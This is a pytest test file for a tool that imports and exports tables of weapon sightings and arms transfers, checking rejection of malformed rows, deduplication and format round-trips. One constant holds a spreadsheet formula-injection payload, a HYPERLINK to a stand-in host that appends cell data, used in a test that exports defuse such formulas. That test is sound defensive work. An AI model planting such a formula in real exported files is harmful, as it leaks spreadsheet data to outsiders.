"""Tables of a case: what cannot be used is named row by row, and everything else is kept."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from asked import Run, is_one_sentence
from bad_bytes import BAD

HEADER = "id,item_type,weapon,holder,to"
GOOD = (
    f"{HEADER}\nS1,weapon,AK-pattern,islamic-state,2014\nS2,vehicle,T-55,islamic-state,June 2014\n".encode()
)


def listed(run: Run, table: str = "sightings") -> list[dict[str, str]]:
    rows = run(table, "list", "c", "--json").json("list/1")["rows"]
    assert isinstance(rows, list)
    return rows


def imported(run: Run, text: str, table: str = "sightings", code: int = 0) -> Any:
    Path("table.csv").write_text(text, encoding="utf-8")
    told = run(table, "import", "c", "table.csv", "--json")
    assert (told.code, told.err) == (code, "")
    done = told.json("import/1")
    assert done["read"] == done["new"] + done["changed"] + done["same"] + len(done["rejected"])
    assert all(is_one_sentence(one["why"]) for one in done["rejected"]), done["rejected"]
    return done


REFUSED = {
    **{kind: ("table.csv", made(GOOD), said) for kind, (made, said) in BAD.items()},
    "a quotation without its end": ("table.csv", GOOD + b'S3,weapon,"AK', "table.csv"),
    "a workbook cut short": ("table.xlsx", b"PK\x03\x04" + b"\0" * 40, "not a complete XLSX workbook"),
    "JSON cut short": ("table.json", b'[{"id": "S1", "item_type": ', "table.json"),
    "a required column missing": ("table.csv", b"id,weapon,holder\nS1,T-55,x\n", "'item_type', 'to'"),
    "two columns of one name": ("table.csv", f"{HEADER},weapon\n".encode(), "weapon"),
    "bytes that are no text": ("table.csv", GOOD + b"S3,weapon,\xff\xfe\xe9,x,2014\n", "table.csv"),
}


@pytest.mark.parametrize("kind", REFUSED)
def test_a_file_that_is_no_table_is_refused_whole(kind: str, run: Run, case: Path) -> None:
    name, data, said = REFUSED[kind]
    Path(name).write_bytes(data)
    sentence = run("sightings", "import", case, name).error(4)
    assert said in sentence
    assert name in sentence
    told = run("sightings", "import", case, name, "--json").fault(4)
    assert (told["message"], told["file"]) == (sentence, name)
    assert listed(run) == []


BAD_ROWS = {
    "a span that ends before it begins": ("weapon,T-55,x,2013,2014", "from"),
    "a time that is none": ("weapon,T-55,x,someday,", "to"),
    "an item type that is none": ("sword,T-55,x,2014,", "item_type"),
    "weights that do not sum to 1": ("weapon,T-55:0.7;T-72:0.7,x,2014,", "weapon"),
    "a required cell empty": ("weapon,,x,2014,", "weapon"),
}


@pytest.mark.parametrize("kind", BAD_ROWS)
def test_good_rows_are_kept_beside_a_bad_one(kind: str, run: Run, case: Path) -> None:
    row, column = BAD_ROWS[kind]
    good = "S1,weapon,T-55,x,2014,\n"
    done = imported(run, f"{HEADER},from\n{good}S2,{row}\nS3,weapon,T-55,x,2014,\n", code=4)
    assert (done["read"], done["new"]) == (3, 2)
    (rejected,) = done["rejected"]
    assert (rejected["line"], rejected["column"]) == (3, column)
    assert [one["id"] for one in listed(run)] == ["S1", "S3"]
    told = run("sightings", "import", case, "table.csv")
    assert told.code == 4
    assert "3 rows of sightings read; 0 new, 0 changed, 2 the same, 1 rejected." in told.out
    assert f"line 3, {column}: " in told.err


def test_one_id_for_two_different_rows_rejects_both(run: Run, case: Path) -> None:
    done = imported(
        run, f"{HEADER}\nS1,weapon,T-55,x,2014\nS1,weapon,T-72,x,2014\nS2,weapon,T-55,x,2014\n", code=4
    )
    assert [(one["line"], one["column"]) for one in done["rejected"]] == [(2, "id"), (3, "id")]
    assert [one["id"] for one in listed(run)] == ["S2"]


def test_one_row_twice_is_one_row(run: Run, case: Path) -> None:
    row = "S1,weapon,T-55,x,2014\n"
    done = imported(run, f"{HEADER}\n{row}{row}")
    assert (done["read"], done["new"], done["same"]) == (2, 1, 1)


def test_a_weapon_that_fits_nothing_is_kept(run: Run, case: Path) -> None:
    assert imported(run, f"{HEADER}\nS1,weapon,Zorkmid blaster,nobody at all,2014\n")["new"] == 1
    assert listed(run)[0]["weapon"] == "Zorkmid blaster"


TRANSFERS = "supplier,recipient,stage,weapon,quantity\n"


def test_an_unknown_state_rejects_a_transfer(run: Run, case: Path) -> None:
    text = f"{TRANSFERS}Atlantis,Iraq,delivered,T-55,3\nIceland,Iraq,delivered,T-55,3\n"
    done = imported(run, text, "transfers", 4)
    (rejected,) = done["rejected"]
    assert (rejected["line"], rejected["column"]) == (2, "supplier")
    assert "Atlantis" in rejected["why"]
    assert [one["supplier"] for one in listed(run, "transfers")] == ["Iceland"]


def test_an_unknown_country_rejects_a_sighting(run: Run, case: Path) -> None:
    done = imported(run, f"{HEADER},country\nS1,weapon,T-55,x,2014,Atlantis\n", code=4)
    assert done["rejected"][0]["column"] == "country"


def test_the_cases_own_actors_make_a_made_up_state_acceptable(run: Run, case: Path) -> None:
    text = f"{TRANSFERS}Atlantis,Iraq,delivered,T-55,3\n"
    assert imported(run, text, "transfers", 4)["new"] == 0
    assert imported(run, "id,name,kind\nATL,Atlantis,state\n", "actors")["new"] == 1
    assert imported(run, text, "transfers")["new"] == 1
    assert imported(run, f"{TRANSFERS}ATL,not known,delivered,T-55,4\n", "transfers")["new"] == 1


def test_importing_twice_changes_nothing_and_leaving_out_deletes_nothing(run: Run, case: Path) -> None:
    text = f"{HEADER}\nS1,weapon,T-55,x,2014\nS2,weapon,T-72,x,2014\n"
    assert imported(run, text)["new"] == 2
    assert imported(run, text)["same"] == 2
    done = imported(run, f"{HEADER}\nS1,weapon,T-62,x,2014\n")
    assert (done["read"], done["changed"]) == (1, 1)
    assert [(one["id"], one["weapon"]) for one in listed(run)] == [("S1", "T-62"), ("S2", "T-72")]
    assert imported(run, f"{HEADER}\n")["read"] == 0
    assert len(listed(run)) == 2


def test_transfers_without_ids_are_known_again(run: Run, case: Path) -> None:
    text = f"{TRANSFERS}Iceland,Iraq,delivered,T-55,3\n"
    assert imported(run, text, "transfers")["new"] == 1
    assert imported(run, text, "transfers")["same"] == 1


def test_unknown_columns_are_kept_and_reported(run: Run, case: Path) -> None:
    done = imported(run, f"shade,{HEADER}\ngrey,S1,weapon,T-55,x,2014\n")
    assert done["unknown_columns"] == ["shade"]
    assert listed(run)[0]["shade"] == "grey"
    assert "shade" in run("sightings", "import", case, "table.csv").err
    assert run("sightings", "export", case, "out.csv").code == 0
    with Path("out.csv").open(newline="", encoding="utf-8") as out:
        assert next(csv.DictReader(out))["shade"] == "grey"


FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


def exported(name: str) -> str:
    """The cell 'note' of the first row of an exported file, as a spreadsheet would meet it."""
    path = Path(name)
    if path.suffix == ".xlsx":
        head, row, *_ = openpyxl.load_workbook(path).worksheets[0].iter_rows(values_only=True)
        return str(dict(zip(head, row, strict=True))["note"])
    if path.suffix == ".json":
        return str(json.loads(path.read_text(encoding="utf-8"))["rows"][0]["note"])
    with path.open(newline="", encoding="utf-8-sig") as file:
        return next(csv.DictReader(file))["note"]


@pytest.mark.parametrize("name", ["o.csv", "o.xlsx", "o.json"])
@pytest.mark.parametrize("begin", ["=", "'="])
def test_a_formula_is_text_everywhere_and_harmless_outside(
    name: str, begin: str, run: Run, case: Path
) -> None:
    # A cell that begins with an apostrophe of its own gets one more, so that both come back as they were.
    note = begin + FORMULA[1:]
    rows = [{"id": "S1", "item_type": "weapon", "weapon": "T-55", "holder": "x", "to": "2014", "note": note}]
    Path("table.json").write_text(json.dumps(rows), encoding="utf-8")
    assert run("sightings", "import", case, "table.json").code == 0
    assert listed(run)[0]["note"] == note
    told = run("sightings", "export", case, name, "--json").json("export/1")
    assert (told["table"], told["file"], told["rows"]) == ("sightings", name, 1)
    assert exported(name) == (note if name.endswith(".json") else "'" + note)
    done = run("sightings", "import", case, name, "--json").json("import/1")
    assert (done["same"], done["changed"], done["unknown_columns"]) == (1, 0, [])


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "json"])
def test_a_table_goes_out_and_comes_back_in_every_form(suffix: str, run: Run, case: Path) -> None:
    imported(run, f"{HEADER},lot,note\nS1,weapon,T-55,x,2014,007,юго́в ٣\nS2,weapon,АК-47,x,2014,1e5,\n")
    before = listed(run)
    assert run("sightings", "export", case, f"out.{suffix}").code == 0
    assert run("init", "d").code == 0
    told = run("sightings", "import", "d", f"out.{suffix}", "--json").json("import/1")
    assert (told["read"], told["new"]) == (2, 2)
    assert run("sightings", "list", "d", "--json").json("list/1")["rows"] == before


def test_an_empty_table_exports_its_header_and_comes_back(run: Run, case: Path) -> None:
    for suffix in ("csv", "xlsx", "json"):
        assert run("sightings", "export", case, f"out.{suffix}").code == 0
        assert run("sightings", "import", case, f"out.{suffix}").code == 0


def test_an_unknown_form_of_export_is_refused(run: Run, case: Path) -> None:
    assert "choose one of csv, xlsx, json" in run("sightings", "export", case, "out.ods").error(2)
    assert not Path("out.ods").exists()


def test_many_rejected_rows_do_not_fill_the_screen(run: Run, case: Path) -> None:
    rows = "".join(f"S{number},sword,T-55,x,2014\n" for number in range(500))
    assert len(imported(run, f"{HEADER}\n{rows}", code=4)["rejected"]) == 500
    told = run("sightings", "import", case, "table.csv")
    assert len(told.err.splitlines()) == 21
    assert "480 more" in told.err
